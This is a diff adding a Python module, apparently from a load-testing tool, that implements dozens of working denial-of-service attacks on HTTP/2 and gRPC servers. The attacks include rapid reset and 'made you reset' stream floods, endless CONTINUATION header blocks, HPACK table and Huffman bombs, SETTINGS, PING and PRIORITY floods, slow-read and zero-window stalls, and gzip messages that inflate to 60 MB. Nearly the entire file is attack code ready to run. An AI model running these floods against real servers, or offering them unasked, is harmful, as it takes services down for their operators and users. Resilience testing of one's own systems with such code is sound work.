@@ -1,0 +1,309 @@
+"""The attacks on HTTP/2, and on gRPC over it."""
+
+from __future__ import annotations
+
+import itertools
+import time
+import zlib
+from collections.abc import Iterator
+
+from loadtest.attacks import frames
+from loadtest.attacks.attacker import Attacker, Conn, repeated
+from loadtest.attacks.frames import ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY
+
+# Streams that a server takes at most from one client; peers allow 100 to 1000.
+_STREAMS = 1000
+_FEW = 100
+_CHUNK = 1 << 16
+_HIGHEST_STREAM = 2**31 - 1
+_SLOW_STEP_S = 0.005
+_WINDOWS_A_STEP = 8
+
+
+def _streams(first: int = 1) -> Iterator[int]:
+    return iter(range(first, _HIGHEST_STREAM, 2))
+
+
+def _gathered(pieces: Iterator[bytes]) -> Iterator[bytes]:
+    """Puts small pieces together."""
+    chunk = bytearray()
+    for piece in pieces:
+        chunk += piece
+        if len(chunk) >= _CHUNK:
+            yield bytes(chunk)
+            chunk.clear()
+    if chunk:
+        yield bytes(chunk)
+
+
+def _waiting(attacker: Attacker, *, window: int = 0, is_large: bool = False) -> tuple[Conn, int]:
+    """Asks on many streams whose answers the window holds back; returns the connection and the last stream."""
+    conn = attacker.http2((INITIAL_WINDOW_SIZE, window))
+    last = 2 * (_FEW if is_large else _STREAMS) - 1
+    asked = (attacker.target.request(stream, is_large=is_large) for stream in range(1, last + 1, 2))
+    conn.send(_gathered(asked), attacker.end_s)
+    conn.wait(min(time.monotonic() + 0.2, attacker.end_s))
+    return conn, last
+
+
+def window_updates(attacker: Attacker) -> None:
+    """WINDOW_UPDATE of the connection beside 1000 answers that wait for their streams' windows."""
+    conn, _ = _waiting(attacker)
+    attacker.flood(repeated(frames.window_update(0, 1)), conn)
+
+
+def stream_window_updates(attacker: Attacker) -> None:
+    """WINDOW_UPDATE of 1 byte for each of 1000 streams with waiting answers, over and over."""
+    conn, last = _waiting(attacker)
+    one_round = b"".join(frames.window_update(stream, 1) for stream in range(1, last + 1, 2))
+    attacker.flood(repeated(one_round), conn)
+
+
+def settings_beside_streams(attacker: Attacker) -> None:
+    """SETTINGS that change the window of 1000 streams with waiting answers, to 1 and back."""
+    conn, _ = _waiting(attacker)
+    pair = frames.settings((INITIAL_WINDOW_SIZE, 1)) + frames.settings((INITIAL_WINDOW_SIZE, 0))
+    attacker.flood(repeated(pair), conn)
+
+
+def settings_flood(attacker: Attacker) -> None:
+    """Empty SETTINGS, each of which asks for an ACK."""
+    attacker.flood(repeated(frames.settings()), attacker.http2())
+
+
+def long_settings(attacker: Attacker) -> None:
+    """SETTINGS of 2730 values each."""
+    values = [(INITIAL_WINDOW_SIZE, 65535 + number % 2) for number in range(2730)]
+    attacker.flood(repeated(frames.settings(*values)), attacker.http2())
+
+
+def settings_unread(attacker: Attacker) -> None:
+    """Empty SETTINGS whose ACKs are not read."""
+    attacker.flood(repeated(frames.settings()), attacker.http2(receive_bytes=4096), reads=False)
+
+
+def ping_flood(attacker: Attacker) -> None:
+    """PING after PING; the answers are read."""
+    attacker.flood(repeated(frames.frame(PING, 0, 0, bytes(8))), attacker.http2())
+
+
+def ping_unread(attacker: Attacker) -> None:
+    """PING after PING; the answers are not read."""
+    attacker.flood(repeated(frames.frame(PING, 0, 0, bytes(8))), attacker.http2(receive_bytes=4096), reads=False)
+
+
+def ping_acks(attacker: Attacker) -> None:
+    """ACKs of PINGs that nobody sent."""
+    attacker.flood(repeated(frames.frame(PING, ACK, 0, bytes(8))), attacker.http2())
+
+
+def unknown_frames(attacker: Attacker) -> None:
+    """Empty frames of a type that nobody knows."""
+    attacker.flood(repeated(frames.frame(0x77, 0, 0)), attacker.http2())
+
+
+def empty_data(attacker: Attacker) -> None:
+    """A body of empty DATA frames."""
+    conn = attacker.http2()
+    conn.send([attacker.target.open_request(1)], attacker.end_s)
+    attacker.flood(repeated(frames.frame(DATA, 0, 1)), conn)
+
+
+def tiny_data(attacker: Attacker) -> None:
+    """A message of 1 MB that is announced, and sent in DATA frames of 1 byte."""
+    conn = attacker.http2()
+    prefix = frames.frame(DATA, 0, 1, b"\0" + (1 << 20).to_bytes(4)) if attacker.target.is_grpc else b""
+    conn.send([attacker.target.open_request(1) + prefix], attacker.end_s)
+    attacker.flood(repeated(frames.frame(DATA, 0, 1, b"\0")), conn)
+
+
+def padded_data(attacker: Attacker) -> None:
+    """A body of DATA frames that hold nothing but padding."""
+    conn = attacker.http2()
+    conn.send([attacker.target.open_request(1)], attacker.end_s)
+    attacker.flood(repeated(frames.frame(DATA, 8, 1, b"\xff" + bytes(255))), conn)
+
+
+def priority_flood(attacker: Attacker) -> None:
+    """PRIORITY for streams that were never opened."""
+    sent = (frames.frame(PRIORITY, 0, stream, bytes([0, 0, 0, 0, 16])) for stream in _streams())
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def rapid_reset(attacker: Attacker) -> None:
+    """Requests that are cancelled as they are sent."""
+    target = attacker.target
+    sent = (target.request(stream) + frames.reset(stream) for stream in _streams())
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def open_and_reset(attacker: Attacker) -> None:
+    """Requests whose body is still to come, and that are cancelled instead."""
+    target = attacker.target
+    sent = (target.open_request(stream) + frames.reset(stream) for stream in _streams())
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def made_you_reset(attacker: Attacker) -> None:
+    """Requests followed by a WINDOW_UPDATE of 0, which the server must answer with RST_STREAM."""
+    target = attacker.target
+    sent = (target.open_request(stream) + frames.window_update(stream, 0) for stream in _streams())
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def made_you_reset_by_window(attacker: Attacker) -> None:
+    """Requests followed by a WINDOW_UPDATE that overflows the stream's window."""
+    target = attacker.target
+    sent = (target.open_request(s) + frames.window_update(s, frames.MAX_WINDOW) for s in _streams())
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def made_you_reset_by_data(attacker: Attacker) -> None:
+    """Requests that have ended, followed by more DATA."""
+    sent = (attacker.target.request(stream) + frames.frame(DATA, 0, stream, b"x") for stream in _streams())
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def requests_flood(attacker: Attacker) -> None:
+    """Small requests, as many as go through, with windows that never end; answers are read."""
+    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
+    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
+    attacker.flood(_gathered(attacker.target.request(stream) for stream in _streams()), conn)
+
+
+def continuation_flood(attacker: Attacker) -> None:
+    """A header block that never ends, in CONTINUATION frames of 1 KB."""
+    conn = attacker.http2()
+    conn.send([frames.frame(HEADERS, 0, 1, attacker.target.fields())], attacker.end_s)
+    attacker.flood(repeated(frames.frame(CONTINUATION, 0, 1, frames.field(b"a", b"b" * 1000))), conn)
+
+
+def empty_continuation(attacker: Attacker) -> None:
+    """A header block that never ends, in empty CONTINUATION frames."""
+    conn = attacker.http2()
+    conn.send([frames.frame(HEADERS, 0, 1, attacker.target.fields())], attacker.end_s)
+    attacker.flood(repeated(frames.frame(CONTINUATION, 0, 1)), conn)
+
+
+def _header_bomb(attacker: Attacker, first: bytes, more: bytes) -> None:
+    """Puts a field in the table with the first request, and has every further one repeat it."""
+    target = attacker.target
+    opening = frames.frame(HEADERS, END_HEADERS, 1, target.fields() + first) + frames.reset(1)
+    sent = (
+        frames.frame(HEADERS, END_HEADERS, stream, target.fields() + more) + frames.reset(stream)
+        for stream in _streams(3)
+    )
+    attacker.flood(itertools.chain([opening], _gathered(sent)), attacker.http2())
+
+
+def hpack_index_bomb(attacker: Attacker) -> None:
+    """A field of 3.9 KB in the table, and requests that name it 12,000 times each, by one byte."""
+    _header_bomb(attacker, frames.field(b"x", b"y" * 3900, first=0x40), b"\xbe" * 12_000)
+
+
+def hpack_huffman(attacker: Attacker) -> None:
+    """Values of 12 KB that Huffman's code makes longer."""
+    # 0x00 holds zero bits: the code of "0" is 00000, so 5 bits are a letter.
+    value = frames.integer(1, 7) + b"x" + frames.integer(12_000, 7, 0x80) + bytes(12_000)
+    _header_bomb(attacker, b"", b"\x00" + value)
+
+
+def many_fields(attacker: Attacker) -> None:
+    """Requests of 3,000 fields without a value each."""
+    _header_bomb(attacker, b"", frames.field(b"a", b"") * 3000)
+
+
+def table_resizes(attacker: Attacker) -> None:
+    """Header blocks that resize HPACK's table thousands of times."""
+    target = attacker.target
+    resizes = (b"\x20" + frames.integer(4096, 5, 0x20)) * 3000
+    sent = (
+        frames.frame(HEADERS, END_HEADERS, stream, resizes + target.fields()) + frames.reset(stream)
+        for stream in _streams()
+    )
+    attacker.flood(_gathered(sent), attacker.http2())
+
+
+def unread_answers(attacker: Attacker) -> None:
+    """Answers of megabytes on many streams, with windows for all of them, and not a byte is read."""
+    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW), receive_bytes=4096)
+    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
+    asked = (attacker.target.request(stream, is_large=True) for stream in itertools.islice(_streams(), _FEW))
+    attacker.flood(asked, conn, reads=False)
+
+
+def slow_read(attacker: Attacker) -> None:
+    """Answers of megabytes on 100 streams, taken by windows of 1 byte for each in turn."""
+    conn, last = _waiting(attacker, is_large=True)
+    streams = itertools.cycle(range(1, last + 1, 2))
+    grants = (
+        b"".join(frames.window_update(stream, 1) for stream in itertools.islice(streams, _WINDOWS_A_STEP))
+        for _ in itertools.count()
+    )
+    conn.send(grants, attacker.end_s, pause_s=_SLOW_STEP_S)
+    conn.last_word()
+
+
+def byte_windows(attacker: Attacker) -> None:
+    """The connection's window used up by answers of megabytes, then WINDOW_UPDATEs of 1 byte, as fast as can be."""
+    conn, _ = _waiting(attacker, window=frames.MAX_WINDOW, is_large=True)
+    attacker.flood(repeated(frames.window_update(0, 1)), conn)
+
+
+def zero_window(attacker: Attacker) -> None:
+    """Answers of megabytes on 100 streams and windows of 0: nothing can be sent."""
+    conn, _ = _waiting(attacker, is_large=True)
+    conn.wait(attacker.end_s)
+    conn.last_word()
+
+
+def half_requests(attacker: Attacker) -> None:
+    """Requests on 1000 streams that are begun and never ended, on one connection."""
+    conn = attacker.http2()
+    begun = frames.frame(DATA, 0, 0, b"\0" + (1 << 20).to_bytes(4) + bytes(1000))
+    sent = (
+        attacker.target.open_request(stream) + begun[:5] + stream.to_bytes(4) + begun[9:]
+        for stream in range(1, 2 * _STREAMS, 2)
+    )
+    attacker.flood(_gathered(sent), conn)
+
+
+def no_preface(attacker: Attacker) -> None:
+    """300 connections on which nothing is sent, and 300 with half a preface."""
+    conns = [conn for _ in range(600) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
+    for conn in conns[::2]:
+        conn.send([frames.PREFACE[:10]], attacker.end_s)
+    while not attacker.is_over and not all(conn.closed for conn in conns):
+        for conn in conns:
+            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
+
+
+def wrong_preface(attacker: Attacker) -> None:
+    """HTTP/1.1 on the port of HTTP/2."""
+    attacker.flood(repeated(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"))
+
+
+def many_messages(attacker: Attacker) -> None:
+    """A unary call with a million empty gRPC messages."""
+    conn = attacker.http2()
+    conn.send([attacker.target.open_request(1)], attacker.end_s)
+    attacker.flood(repeated(frames.frame(DATA, 0, 1, bytes(5) * 3000)), conn)
+
+
+def gzip_messages(attacker: Attacker) -> None:
+    """Messages of 60 KB that inflate to 60 MB each, on one stream after the other."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    bomb = packer.compress(bytes(60 << 20)) + packer.flush()
+    message = b"\1" + len(bomb).to_bytes(4) + bomb
+    parts = [message[at : at + 16384] for at in range(0, len(message), 16384)]
+    conn = attacker.http2()
+
+    def asked() -> Iterator[bytes]:
+        for stream in _streams():
+            sent = [attacker.target.open_request(stream, (b"grpc-encoding", b"gzip"))]
+            sent += [frames.frame(DATA, 0, stream, part) for part in parts[:-1]]
+            yield b"".join([*sent, frames.frame(DATA, 1, stream, parts[-1])])
+            # The next one as the server has room: answers and windows come meanwhile.
+            conn.wait(min(time.monotonic() + 0.02, attacker.end_s))
+
+    attacker.flood(asked(), conn)
